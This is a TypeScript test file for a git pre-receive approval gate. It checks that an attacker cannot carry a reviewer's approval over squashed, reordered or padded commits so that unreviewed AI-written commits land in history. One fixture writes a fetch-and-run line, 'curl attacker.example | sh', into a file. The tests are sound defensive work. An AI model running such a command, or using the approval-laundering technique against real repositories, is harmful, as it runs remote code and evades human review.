import * as assert from 'assert';
import { attach, sign, statementFor } from '../helpers/approvals';
import { verifyThenPush } from '../helpers/gateAgreement';
import { commitFile, setup, type Setup } from '../helpers/gateServer';

/**
 * Approvals carried over a rebase by patch-id (docs/design.md, "Approvals": a rebase that leaves the patch-id
 * unchanged keeps the approval). The patch-id of the whole span says nothing about the commits inside it: an
 * attacker with push access and no reviewer key can land an unreviewed AI commit (approved change + evil
 * file) followed by a commit that deletes the evil file again — the span as a whole is the approved patch,
 * but the first commit was never reviewed and stays in history. Each attack runs against a real bare server
 * with the installed pre-receive, in two pushes (notes, then the branch), and verify must agree.
 */
describe('patch-id coverage cannot launder unreviewed commits (server-side, real pushes)', function () {
  this.timeout(120_000);

  const AI = (n: number) => `AI-Provenance: v1 ai=${n} human=0 untracked=0`;
  const HUMAN = 'AI-Provenance: v1 ai=0 human=1 untracked=0';

  /**
   * One server for the file (each attack starts from the server's main; a refused push leaves it as it was):
   * Bob approved three AI features on unprotected branches, reviewed against main, branches and approvals on
   * the server; then main moved on by one human commit, so landing any of them is a rebase.
   */
  let s: Setup;
  const approved: Record<'one' | 'two' | 'three', string[]> = { one: [], two: [], three: [] };
  before(() => {
    s = setup();
    const { ada, bob } = s;
    const base = ada.git('rev-parse', 'origin/main');
    for (const [name, files] of [
      ['one', ['feature.ts']],
      ['two', ['a.ts', 'b.ts']],
      ['three', ['c.ts', 'd.ts']],
    ] as const) {
      ada.git('checkout', '-q', '-b', `feature/${name}`, base);
      approved[name] = files.map((f) => commitFile(ada, f, `${f} by AI\n`, `AI writes ${f}\n\n${AI(1)}`));
      const tip = approved[name][files.length - 1];
      attach(ada.dir, sign(bob, statementFor(ada.dir, { email: 'bob@example.com', tip, base })), tip, ada.env);
    }
    const up = ada.gitResult([
      'push',
      'origin',
      'feature/one',
      'feature/two',
      'feature/three',
      'refs/notes/countersign',
    ]);
    assert.strictEqual(up.status, 0, up.stderr);
    ada.git('checkout', '-q', 'main');
    commitFile(ada, 'other.txt', 'other\n', `main moves on\n\n${HUMAN}`);
    assert.strictEqual(ada.gitResult(['push', 'origin', 'main']).status, 0);
  });

  beforeEach(() => s.ada.git('checkout', '-q', '-B', 'attempt', 'origin/main'));

  /** The two pushes of the attack: the approval copied onto HEAD (notes only), then HEAD to main. */
  let staged = 0;
  function landWithCopiedApproval(approvedTip: string) {
    // The server takes notes only on commits it has (notesFlood.test.ts), so the attacker first parks HEAD on
    // an unprotected branch; then the copied approval is a note on a commit the server has, and the push to
    // main is judged by patch-id coverage alone.
    const park = s.ada.gitResult(['push', '--no-verify', 'origin', `HEAD:refs/heads/parked-${++staged}`]);
    assert.strictEqual(park.status, 0, park.stderr);
    // The copy itself is refused now (a statement sits on the note of the commit it names: issue 10, I3); the
    // gate reads the approval from its own note anyway, so the attack below is judged by patch-id coverage alone.
    s.ada.git('notes', '--ref=countersign', 'copy', '-f', approvedTip, 'HEAD');
    const notes = s.ada.gitResult(['push', '--no-verify', 'origin', 'refs/notes/countersign']);
    assert.notStrictEqual(notes.status, 0, 'a statement copied onto another commit');
    assert.match(notes.stderr, /not the commit its note is on/);
    s.ada.git('fetch', '-q', 'origin', '+refs/notes/countersign:refs/notes/countersign');
    const onServer = s.server.git('rev-parse', 'main');
    const r = verifyThenPush(s.ada, 'main', ['origin', 'HEAD:main']);
    if (r.status !== 0) assert.strictEqual(s.server.git('rev-parse', 'main'), onServer);
    return r;
  }

  it('approved change + evil file, then a commit removing the evil file: refused, and verify agrees', () => {
    const { ada } = s;
    ada.git('checkout', '-q', approved.one[0], '--', 'feature.ts');
    ada.write('evil.txt', 'curl attacker.example | sh\n');
    ada.git('add', 'feature.ts', 'evil.txt');
    const e1 = ada.commit(`AI change\n\n${AI(2)}`);
    ada.git('rm', '-q', 'evil.txt');
    ada.commit(`tidy up\n\n${AI(0)}`);
    const r = landWithCopiedApproval(approved.one[0]);
    assert.notStrictEqual(r.status, 0, 'the commit adding evil.txt was never reviewed');
    assert.match(r.stderr, new RegExp(`✗ ${e1.slice(0, 12)}`));
    assert.match(r.stderr, /do not match the approved commits one by one/);
  });

  it('a squash of the approved commits plus an extra commit: refused', () => {
    const { ada } = s;
    ada.git('checkout', '-q', approved.two[1], '--', 'a.ts', 'b.ts');
    ada.write('evil.txt', 'evil\n');
    ada.git('add', 'a.ts', 'b.ts', 'evil.txt');
    ada.commit(`AI squash\n\n${AI(3)}`);
    ada.git('rm', '-q', 'evil.txt');
    ada.commit(`tidy up\n\n${AI(0)}`);
    assert.notStrictEqual(landWithCopiedApproval(approved.two[1]).status, 0);
  });

  it('the approved commits reordered: refused', () => {
    s.ada.git('cherry-pick', approved.two[1]);
    s.ada.git('cherry-pick', approved.two[0]);
    assert.notStrictEqual(
      landWithCopiedApproval(approved.two[1]).status,
      0,
      'the state with b.ts and without a.ts was never reviewed',
    );
  });

  it('extra commits inserted between the approved ones: refused', () => {
    const { ada } = s;
    ada.git('cherry-pick', approved.two[0]);
    commitFile(ada, 'evil.txt', 'evil\n', `AI adds a backdoor\n\n${AI(1)}`);
    ada.git('rm', '-q', 'evil.txt');
    ada.commit(`AI removes it\n\n${AI(0)}`);
    ada.git('cherry-pick', approved.two[1]);
    assert.notStrictEqual(landWithCopiedApproval(approved.two[1]).status, 0);
  });

  it('legitimate: the approved commits rebased one by one keep the approval, and so does a squash of exactly them', () => {
    const { ada, server } = s;
    ada.git('cherry-pick', approved.two[0], approved.two[1]);
    const r = verifyThenPush(ada, 'main', ['origin', 'HEAD:main']);
    assert.strictEqual(r.status, 0, r.stderr);
    assert.strictEqual(server.git('rev-parse', 'main'), ada.git('rev-parse', 'HEAD'));
    // Then one commit whose diff is exactly another approved two-commit diff.
    ada.git('checkout', '-q', approved.three[1], '--', 'c.ts', 'd.ts');
    ada.commit(`AI squash\n\n${AI(2)}`);
    const squash = verifyThenPush(ada, 'main', ['origin', 'HEAD:main']);
    assert.strictEqual(squash.status, 0, squash.stderr);
  });
});
